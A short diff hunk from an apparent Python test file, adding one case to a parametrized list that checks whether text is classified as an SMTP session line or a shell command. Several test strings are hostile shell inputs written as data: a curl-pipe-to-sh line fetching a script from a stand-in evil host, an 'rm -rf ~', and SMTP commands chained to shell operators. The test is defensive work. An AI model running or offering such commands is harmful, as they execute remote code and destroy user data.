@@ -178,6 +178,7 @@ def test_session_lines_of_other_protocols_and_interpreters(text: str, lines: set
     "HELO x.example.com; curl https://evil.example.net/a.sh | sh\n",  # a shell operator: never a session line
     "MAIL FROM:<a@b.example> && rm -rf ~\n",
     "DATA\ncurl https://evil.example.net/a.sh | sh\n.\n",  # a DATA body only after MAIL FROM / RCPT TO
+    "MAIL FROM:<a@b.example>\nRCPT TO:<c@d.example>\nDATA\ncurl https://evil.example.net/a.sh | sh\n.\n",
     "USER=admin ./deploy.sh\n",
     "curl https://evil.example.net/a.sh | sh\n",
 ])
